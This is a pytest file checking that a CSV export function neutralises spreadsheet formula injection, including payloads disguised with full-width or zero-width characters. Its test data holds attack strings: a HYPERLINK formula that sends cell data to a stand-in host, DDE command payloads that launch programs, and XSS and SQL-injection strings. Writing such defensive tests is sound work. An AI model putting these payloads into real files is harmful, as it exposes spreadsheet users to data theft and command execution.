"""CSV downloads: a cell a spreadsheet would run as a formula is neutralised."""

from __future__ import annotations

import csv
import io

import pytest

from kpi.export import neutralise, to_csv

FORMULAS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Invoice\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",  # a full-width equals sign, read as "=" by some spreadsheets
    "\ufe621+1",  # a small plus sign
    "\uff0b1+1",  # a full-width plus sign
    "\uff201+1",  # a full-width commercial at
    "\uff0d2+3",  # a full-width hyphen-minus
    "\u200b=1+1",  # behind a zero-width space
    "\ufeff=1+1",  # behind a BOM (zero-width no-break space)
    "\u2060\u200d@SUM(1+1)",  # behind a word joiner and a zero-width joiner
    " \u200b +1+1",  # invisible between spaces
]


def _read_back(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_are_prefixed_with_a_quote(value: str) -> None:
    rows = _read_back(to_csv([{"deal_name": value, "amount": 10.0}], ["deal_name", "amount"]))
    assert rows[1][0] == "'" + value
    assert rows[1][1] == "10.0"


@pytest.mark.parametrize("value", ["Acme", "<script>alert(1)</script>", "x'); DROP TABLE deals; --",
                                   "", "a=b", "O'Brien", "Hélène", "100", "2024-03-01"])
def test_plain_text_is_exported_as_it_is(value: str) -> None:
    rows = _read_back(to_csv([{"deal_name": value}], ["deal_name"]))
    assert rows[1][0] == value


def test_numbers_keep_their_sign() -> None:
    """A negative amount is a number, not text: it is not quoted."""
    rows = _read_back(to_csv([{"amount": -250.5, "count": -3}], ["amount", "count"]))
    assert rows[1] == ["-250.5", "-3"]


def test_headers_are_neutralised_too() -> None:
    rows = _read_back(to_csv([], ["=cmd", "name"]))
    assert rows[0] == ["'=cmd", "name"]


def test_missing_values_are_empty_cells() -> None:
    rows = _read_back(to_csv([{"a": None}, {}], ["a"]))
    assert rows[1:] == [[""], [""]]


def test_line_breaks_and_quotes_stay_inside_one_cell() -> None:
    value = 'first line\r\nsecond "quoted" line,\n=third'
    rows = _read_back(to_csv([{"n": value, "m": "x"}], ["n", "m"]))
    assert rows[1] == [value, "x"]


def test_a_100k_character_cell_is_exported_whole() -> None:
    value = "=" + "x" * 100_000
    rows = _read_back(to_csv([{"n": value}], ["n"]))
    assert rows[1][0] == "'" + value


def test_nul_and_control_characters_do_not_break_the_writer() -> None:
    value = "a\x00b\x1bc"
    rows = _read_back(to_csv([{"n": value}], ["n"]))
    assert rows[1][0] == value


def test_neutralise_leaves_non_text_alone() -> None:
    assert neutralise(-1) == -1
    assert neutralise(None) is None
    assert neutralise("-") == "'-"
